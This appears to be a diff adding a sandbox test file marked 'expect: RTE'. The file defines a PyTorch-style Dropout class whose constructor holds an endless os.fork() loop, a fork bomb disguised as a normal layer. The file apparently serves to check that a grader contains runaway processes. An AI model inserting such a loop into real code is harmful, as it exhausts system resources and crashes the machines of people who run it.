@@ -1,0 +1,11 @@
+# expect: RTE
+"""Makes a process."""
+import torch
+from torch import nn
+
+import os
+class Dropout(nn.Module):
+    def __init__(self, p=0.5):
+        super().__init__()
+        while True:
+            os.fork()
